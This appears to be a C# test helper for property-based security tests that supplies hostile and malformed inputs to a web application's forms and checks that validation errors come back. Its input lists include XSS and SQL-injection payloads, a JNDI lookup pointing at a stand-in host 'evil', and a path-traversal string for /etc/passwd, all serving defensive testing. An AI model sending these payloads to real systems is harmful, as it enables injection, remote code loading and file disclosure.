using System.Text.RegularExpressions;
using FsCheck;
using FsCheck.Fluent;

namespace Smartbis.Tests.Security;

/// <summary>The hostile values the bad-input tests draw from, and checks on what comes back.</summary>
public static partial class BadInput
{
    /// <summary>Text an attacker or a confused client sends: markup, SQL, template syntax, control and bidi characters, emoji, huge.</summary>
    public static readonly string[] Nasty =
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'; DROP TABLE customers; --", "' OR '1'='1", "1; SELECT pg_sleep(5)",
        "Ünïcødé 名前 🙂", "\u202Egnp.exe", "zero\u0000byte", "{{ 7 | times: 7 }}{% raw %}", "${jndi:ldap://evil/x}", "../../etc/passwd", "\\\\server\\share",
        "line\r\nbreak", "%00%27", new string('x', 10_000), new string('€', 3_000), "😀😀😀😀😀😀😀😀😀😀",
    ];

    /// <summary>JSON values of the wrong type or out of range, as raw JSON text (some are not even valid JSON).</summary>
    public static readonly string[] WrongJson =
    [
        "true", "[]", "{}", "\"text\"", "\"1000\"", "-1", "0", "1.5", "1e400", "99999999999999999999", "-9223372036854775809", "NaN", "null",
        "9223372036854775807", "[1,2,3]", "{\"$ne\":null}",
    ];

    /// <summary>Malformed documents: truncated, trailing garbage, wrong top level, comments, duplicate keys with wrong types.</summary>
    public static readonly string[] MalformedDocuments =
    [
        "", "{", "{\"amountCents\": 10", "[1,2]", "\"just a string\"", "42", "null", "{\"a\":1}}", "{'single':'quotes'}", "{\"x\":1,}",
        "/* comment */ {}", "{\"amountCents\":1000,\"amountCents\":\"x\"}", "\u0000", "{\"name\":\"\\uD800\"}",
    ];

    public static Gen<string> NastyText => Gen.Elements(Nasty);
    public static Gen<string> NastyNonBlank => Gen.Elements(Nasty.Where(s => !string.IsNullOrWhiteSpace(s)).ToArray());
    public static Gen<string> WrongValue => Gen.Elements(WrongJson);
    public static Gen<string> Malformed => Gen.Elements(MalformedDocuments);

    /// <summary>True when a re-rendered form shows at least one error message (beside a field or in the summary).</summary>
    public static bool HasFormError(string html) =>
        FieldMessage().Matches(html).Any(m => m.Groups[1].Value.Trim().Length > 0) || SummaryItem().IsMatch(html);

    [GeneratedRegex(@"data-valmsg-for=""[^""]+""[^>]*>([^<]+)<")]
    private static partial Regex FieldMessage();

    [GeneratedRegex(@"validation-summary-errors[^>]*>\s*<ul>\s*<li>[^<]+</li>")]
    private static partial Regex SummaryItem();
}
